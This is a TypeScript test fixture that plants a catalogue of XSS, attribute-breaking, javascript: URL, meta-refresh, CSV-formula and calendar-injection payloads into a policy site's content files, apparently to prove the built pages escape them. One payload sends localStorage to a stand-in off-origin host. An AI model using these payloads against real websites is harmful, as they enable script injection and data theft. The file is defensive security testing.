/**
 * A content/ folder written by an attacker: the small site fixture (test/site/fixtures/content)
 * with markup, scripts, refreshes and formulas in every kind of field a source can reach. The site
 * is built from it directly, so it is proven safe even if the extractor let all of it through.
 *
 * Each attempt says where its payload goes and on which pages a reader must see it as text. Every
 * script payload tries to be noticed: a dialog, a request to 127.0.0.2 (off the site's origin), or
 * a navigation away.
 */
import { existsSync, mkdirSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { root } from '../site/support/build.ts';

export interface Attempt {
  id: string;
  payload: string;
  /** Where the payload is placed, in words (the report's table). */
  where: string;
  /** Pages (relative to the site root) that must show the payload as text. */
  shownOn: string[];
}

/** Somewhere off the site's origin that nothing listens on: any request to it is a leak. */
export const outside = 'http://127.0.0.2:9';

export const attempts = {
  titleScript: {
    id: 'P1',
    payload: `甲市方案</title><script>fetch('${outside}/p1?'+JSON.stringify(localStorage))</script>`,
    where: 'document title (alpha-plan)',
    shownOn: ['documents/alpha-plan/', 'documents/', '', 'tasks/alpha-plan/', 'targets/', 'timeline/'],
  },
  titleRefresh: {
    id: 'P2',
    payload: `乙省方案<meta http-equiv="refresh" content="0;url=${outside}/p2">`,
    where: 'document title (beta-pilot)',
    shownOn: [
      'documents/beta-pilot/',
      'documents/',
      'checks/',
      'checks/eligibility/beta-pilot/',
      'checks/indicators/beta-pilot/',
    ],
  },
  departmentName: {
    id: 'P3',
    payload: `市</title><script>alert('P3')</script>局`,
    where: 'department name and alias in a responsibility note (d-jsfgw)',
    shownOn: ['departments/d-jsfgw/', 'departments/', 'documents/alpha-plan/', 'tasks/alpha-plan/'],
  },
  regionImage: {
    id: 'P4',
    payload: `甲市<img src=x onerror=alert('P4')>`,
    where: 'region of a document and its departments (Pagefind 地区 filter)',
    shownOn: ['documents/alpha-plan/', 'departments/', 'departments/d-jsfgw/'],
  },
  headingSvg: {
    id: 'P5',
    payload: `<svg onload=alert('P5')>构建绿色低碳新机制`,
    where: 'clause heading (table of contents, search sub-result)',
    shownOn: ['documents/alpha-plan/'],
  },
  sourceUrl: {
    id: 'P6',
    payload: `javascript:alert('P6')`,
    where: 'sidecar source URL (sourceUrl of beta-pilot)',
    shownOn: ['documents/beta-pilot/'],
  },
  quoteAttribute: {
    id: 'P7',
    payload: `全市林草覆盖率达到65.2%以上" onmouseover="alert('P7')" x="`,
    where: 'target quote, written into a title="…" attribute',
    shownOn: [],
  },
  metricQuote: {
    id: 'P8',
    payload: `空气质量' autofocus onfocus='alert("P8")' x='<script>alert("P8")</script>`,
    where: "target metric, with ' to break single-quoted attributes",
    shownOn: ['targets/', 'checks/indicators/alpha-plan/'],
  },
  criterionScriptEnd: {
    id: 'P9',
    payload: `"</script><script>alert('P9')</script>"申报单位须具有独立法人资格`,
    where: 'eligibility criterion text: </script> inside quotes, into island props',
    // Shown as the check's second question; the browser suite answers the first to reach it.
    shownOn: [],
  },
  issuerImage: {
    id: 'P10',
    payload: `<img src="${outside}/p10.png">甲市人民政府`,
    where: 'issuer (description meta, document card)',
    shownOn: ['documents/alpha-plan/', 'documents/'],
  },
  taskUrl: {
    id: 'P11',
    payload: `javascript:alert('P11')`,
    where: 'url field of a task record (links to its clause)',
    shownOn: [],
  },
  departmentUrl: {
    id: 'P11b',
    payload: `//127.0.0.2:9/p11`,
    where: 'url field of a department record',
    shownOn: [],
  },
  formula: {
    id: 'P12',
    payload: `=1+2局`,
    where: 'department name (d-jsstj), for departments.csv',
    shownOn: ['departments/d-jsstj/', 'departments/'],
  },
  taskTitle: {
    id: 'P14',
    payload: `<img src=x onerror=alert('P14')>能源领域实施方案`,
    where: 'annex task title',
    shownOn: ['documents/alpha-plan/', 'tasks/alpha-plan/', 'departments/d-jsfgw/'],
  },
  milestoneLabel: {
    id: 'P15',
    payload: `<iframe src="javascript:alert('P15')"></iframe>报送申报材料\r\nDTSTART:19700101`,
    where: 'milestone label (timeline, milestones.ics with a bare CR and a fake property)',
    shownOn: [],
  },
  genericBody: {
    id: 'P16',
    payload: `<a href="javascript:alert('P16')">市各有关部门</a>`,
    where: 'generic body named in a task',
    shownOn: ['documents/alpha-plan/', 'tasks/alpha-plan/'],
  },
  tableCell: {
    id: 'P17',
    payload: `<style>body{display:none}</style>市发展改革委`,
    where: 'table cell of a clause',
    shownOn: ['documents/alpha-plan/'],
  },
  escapedText: {
    id: 'P18',
    payload: `&lt;script&gt;alert('P18')&lt;/script&gt;`,
    where: 'clause text that is already entity-escaped (must not be decoded)',
    shownOn: ['documents/alpha-plan/'],
  },
  docNumber: {
    id: 'P20',
    payload: `甲政发'><script>alert('P20')</script>〔2022〕7号`,
    where: 'document number (description meta, document page)',
    shownOn: ['documents/alpha-plan/'],
  },
} satisfies Record<string, Attempt>;

type Json = Record<string, unknown> & { id: string };

const fixture = path.join(root, 'test/site/fixtures/content');
const read = <T>(name: string): T => JSON.parse(readFileSync(path.join(fixture, name), 'utf8')) as T;
const byId = <T extends { id: string }>(list: T[], id: string): T => {
  const found = list.find((r) => r.id === id);
  if (!found) throw new Error(`fixture has no ${id}`);
  return found;
};

/** The fixture with every payload in place, as content/ files (name → JSON text). */
export function hostileContent(): Record<string, string> {
  const a = attempts;
  const alpha = read<Json & { clauses: Array<Json & { text: string; heading: string | null; rows?: string[][] }> }>(
    'documents/alpha-plan.json',
  );
  const beta = read<Json>('documents/beta-pilot.json');
  const departments = read<Array<Json & { name: string; aliases: string[] }>>('departments.json');
  const tasks = read<Array<Json & { title: string; generic: string[] }>>('tasks.json');
  const targets = read<Json[]>('targets.json');
  const milestones = read<Json[]>('milestones.json');
  const rules = read<Array<Json & { criteria: Json[] }>>('rules.json');

  Object.assign(alpha, {
    title: a.titleScript.payload,
    region: a.regionImage.payload,
    issuer: [a.issuerImage.payload],
    docNumber: a.docNumber.payload,
  });
  const heading = byId(alpha.clauses, 'c2-1');
  Object.assign(heading, { heading: a.headingSvg.payload, text: a.headingSvg.payload });
  byId(alpha.clauses, 'c2-t1').rows![1]![2] = a.tableCell.payload;
  const residue = byId(alpha.clauses, 'p9');
  residue.text = `${residue.text} ${a.escapedText.payload}`;
  Object.assign(beta, { title: a.titleRefresh.payload, sourceUrl: a.sourceUrl.payload });

  const lead = byId(departments, 'd-jsfgw');
  Object.assign(lead, {
    name: a.departmentName.payload,
    aliases: [a.departmentName.payload, '市发展改革委'],
    region: a.regionImage.payload,
  });
  Object.assign(byId(departments, 'd-jsstj'), {
    name: a.formula.payload,
    aliases: [a.formula.payload],
    region: a.regionImage.payload,
  });
  Object.assign(byId(departments, 'd-jszjj'), { url: a.departmentUrl.payload, region: a.regionImage.payload });

  byId(tasks, 'alpha-plan/c2-1-1').url = a.taskUrl.payload;
  byId(tasks, 'alpha-plan/c2-1-2').generic = [a.genericBody.payload];
  byId(tasks, 'alpha-plan/annex-1').title = a.taskTitle.payload;

  byId(targets, 'alpha-plan/t1').quote = a.quoteAttribute.payload;
  byId(targets, 'alpha-plan/t2').metric = a.metricQuote.payload;
  byId(milestones, 'beta-pilot/m1').label = a.milestoneLabel.payload;
  const rule = byId(rules, 'beta-pilot/r1');
  // The fixture's first condition carries the payload, so it is the question after who may apply.
  rule.criteria.find((c) => c.kind === 'required')!.text = a.criterionScriptEnd.payload;

  const json = (value: unknown) => JSON.stringify(value, null, 2) + '\n';
  return {
    'documents/alpha-plan.json': json(alpha),
    'documents/beta-pilot.json': json(beta),
    'departments.json': json(departments),
    'tasks.json': json(tasks),
    'targets.json': json(targets),
    'milestones.json': json(milestones),
    'rules.json': json(rules),
    'baselines.json': readFileSync(path.join(fixture, 'baselines.json'), 'utf8'),
  };
}

/** Where the hostile content is written; beside the other build caches. */
export const hostileContentDir = path.join(root, 'node_modules/.cache/policy-atlas/hostile-content');

/**
 * Writes the hostile content, touching only files whose text changed, so the built site stays
 * cached between runs (the build helper rebuilds when content is newer than the last build).
 */
export function writeHostileContent(dir = hostileContentDir): string {
  const files = hostileContent();
  for (const [name, text] of Object.entries(files)) {
    const file = path.join(dir, name);
    mkdirSync(path.dirname(file), { recursive: true });
    if (!existsSync(file) || readFileSync(file, 'utf8') !== text) writeFileSync(file, text);
  }
  const expected = new Set(Object.keys(files).filter((f) => f.startsWith('documents/')));
  for (const name of readdirSync(path.join(dir, 'documents'))) {
    if (!expected.has(`documents/${name}`)) throw new Error(`unexpected ${name} in ${dir}`);
  }
  return dir;
}
